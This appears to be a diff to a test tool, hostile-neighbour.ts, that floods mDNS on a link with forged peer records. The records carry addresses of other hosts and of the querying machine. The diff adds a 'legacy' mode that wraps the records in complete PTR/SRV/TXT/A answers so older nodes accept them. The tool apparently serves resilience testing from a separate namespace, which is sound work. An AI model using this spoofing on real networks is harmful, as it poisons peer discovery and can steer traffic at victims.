@@ -1,6 +1,6 @@
 /**
  * Answers by mDNS whoever asks on its link, for an attack that is made from another namespace: thousands of peers in each
- * packet, at addresses of others and of the machine that asks, and records that nobody needs. `hostile-neighbour.ts SELF VICTIM`;
+ * packet, at addresses of others and of the machine that asks, and records that nobody needs. `hostile-neighbour.ts SELF VICTIM KIND`;
  * prints what it counted, a line of JSON each second.
  */
 import { randomBytes } from 'node:crypto'
@@ -10,10 +10,10 @@ import { peerIdFromPublicKey } from '@mesh/core'
 const MDNS = { address: '224.0.0.251', port: 5353 }
 /** Where nothing of a peer is that is named all the same. */
 const NAMED_PORT = 5_001
-const [TXT, NSEC, IN] = [16, 47, 1]
+const [A, PTR, TXT, SRV, NSEC, IN] = [1, 12, 16, 33, 47, 1]
 const PEERS_IN_PACKET = 60
 
-const [self = '', victim = ''] = process.argv.slice(2)
+const [self = '', victim = '', kind = 'mesh'] = process.argv.slice(2)
 const counts: Record<string, number> = {}
 const count = (what: string, times = 1) => {
   counts[what] = (counts[what] ?? 0) + times
@@ -51,11 +51,24 @@ function tales(service: string): Buffer {
     '/ip4/203.0.113.1/tcp/443',
     `/ip4/${self}/tcp/4001`,
   ]
-  const records = Array.from({ length: PEERS_IN_PACKET }, (_, at) => {
+  const texts = Array.from({ length: PEERS_IN_PACKET }, (_, at) => {
     const text = `dnsaddr=${addresses[at % addresses.length]}/p2p/${peerIdFromPublicKey(randomBytes(32))}`
-    return record(name, TXT, Buffer.from([text.length, ...Buffer.from(text)]))
+    return Buffer.from([text.length, ...Buffer.from(text)])
   })
-  return packet(records)
+  if (kind === 'legacy') return wholeAnswer(service, Buffer.concat(texts))
+  return packet(texts.map((text) => record(name, TXT, text)))
+}
+
+/** All of one answer: legacy nodes read the texts of none that does not say where its host is, and each name once. */
+function wholeAnswer(service: string, texts: Buffer): Buffer {
+  const own = randomBytes(16).toString('hex')
+  const [name, host] = [labels(`${own}.${service}`), labels(`${own}.local`)]
+  return packet([
+    record(labels(service), PTR, name),
+    record(name, SRV, Buffer.concat([Buffer.alloc(4), Buffer.of(0x0f, 0xa1), host])),
+    record(name, TXT, texts),
+    record(host, A, Buffer.from(self.split('.').map(Number))),
+  ])
 }
 
 /** A record that says for each type of record whether there is one. */
